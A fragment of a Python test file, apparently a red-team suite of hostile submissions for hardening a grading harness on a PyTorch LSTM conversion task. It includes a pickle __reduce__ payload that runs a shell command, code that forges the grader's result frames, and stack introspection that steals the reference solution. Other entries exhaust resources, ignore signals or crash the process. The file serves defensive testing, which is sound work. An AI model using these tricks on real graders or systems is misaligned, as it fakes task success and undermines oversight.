        "pickle-that-runs",
        """
import io
import os

import torch


class Run:
    def __reduce__(self):
        return (os.system, ("touch /tmp/it-ran",))


def from_pytorch(lstm):
    file = io.BytesIO()
    torch.save(Run(), file)
    return Run(), file, np.array([Run()], object)
""",
    ),
    (
        "frames-of-its-own",
        """
import os
import struct

message = b'{"d": [["say", {"s": "result"}], ["result", {"x": "0x1p0"}]]}\\n'
for number in range(3, 20):
    try:
        os.write(number, 5 * (struct.pack("<I", len(message)) + message))
    except OSError:
        pass


def from_pytorch(lstm):
    return lstm
""",
    ),
    (
        "frame-without-an-end",
        """
import os
import struct

for number in range(3, 20):
    try:
        os.write(number, struct.pack("<I", 2**32 - 1) + b"x" * 100)
    except OSError:
        pass


def from_pytorch(lstm):
    return lstm
""",
    ),
    (
        "channel-closed",
        """
import os

os.closerange(3, 50)


def from_pytorch(lstm):
    return lstm
""",
    ),
    (
        "solution-in-a-frame",
        """
import gc
import sys
import types


def from_pytorch(lstm):
    frame = sys._getframe()
    while frame:
        for one in frame.f_locals.values():
            if getattr(one, "__name__", "") == "from_pytorch" and one is not from_pytorch:
                return one(lstm)
        frame = frame.f_back
    for one in gc.get_objects():
        found = isinstance(one, types.FunctionType) and one.__name__ == "from_pytorch"
        if found and one is not from_pytorch:
            return one(lstm)
""",
    ),
    (
        "answer-of-the-package",
        """
def from_pytorch(lstm):
    return lc.interop.from_pytorch(lstm).params[0].arrays()
""",
    ),
    (
        "endless-loop",
        """
def from_pytorch(lstm):
    while True:
        lstm.weight_ih_l0.sum()
""",
    ),
    (
        "endless-loop-that-hears-no-signal",
        """
import signal

for number in set(signal.Signals) - {signal.SIGKILL, signal.SIGSTOP}:
    signal.signal(number, signal.SIG_IGN)


def from_pytorch(lstm):
    while True:
        pass
""",
    ),
    (
        "sleep-for-ever",
        """
import time


def from_pytorch(lstm):
    time.sleep(10**6)
""",
    ),
    (
        "threads-without-number",
        """
import threading

threading.stack_size(32_768)


def from_pytorch(lstm):
    while True:
        threading.Thread(target=threading.Event().wait, daemon=True).start()
""",
    ),
    (
        "print-without-end",
        """
import os


def from_pytorch(lstm):
    while True:
        os.write(1, b"x" * 10_000)
        os.write(2, b"x" * 10_000)
""",
    ),
    (
        "exit-at-once",
        """
import os


def from_pytorch(lstm):
    os._exit(0)
""",
    ),
    (
        "memory-that-is-not-there",
        """
import ctypes


def from_pytorch(lstm):
    ctypes.memset(0, 0, 10**6)
""",
    ),
)

ATTACKS = (
    *(_attack("forge the comparison", *entry) for entry in FORGE_THE_COMPARISON),
    *(_attack("forge the result", *entry) for entry in FORGE_THE_RESULT),
    *(_attack("forge the channel", *entry) for entry in FORGE_THE_CHANNEL),
    *(_attack("read tests, reference or seed", *entry) for entry in READ),
    *(_attack("exhaust time", *entry) for entry in EXHAUST_TIME),
    *(_attack("exhaust memory", *entry) for entry in EXHAUST_MEMORY),
    *(_attack("exhaust output", *entry) for entry in EXHAUST_OUTPUT),
    *(_attack("exhaust files", *entry) for entry in EXHAUST_FILES),
    *(_attack("recursion", *entry) for entry in RECURSION),
    *(_attack("fuel", *entry) for entry in FUEL),
    *(_attack("network", *entry) for entry in NETWORK),
    *(_attack("files", *entry) for entry in FILES),
    *(_attack("ctypes and signals", *entry) for entry in CTYPES_AND_SIGNALS),
    *BREAK_THE_PARSER,
    *(_attack("tell public from hidden inputs", *entry) for entry in PUBLIC_OR_HIDDEN),
    *(_attack("poison state between questions", *entry) for entry in POISON),
    *(_attack("call the package's answer", *entry) for entry in PACKAGE),
    *(_attack("call the package's answer", *entry, debatable=True) for entry in DEBATABLE),
    *(_in_pytorch(name, cell, UNLESS_CAUGHT) for name, cell in ESCAPE),
    *(_in_pytorch(*entry) for entry in OBSERVED),
)
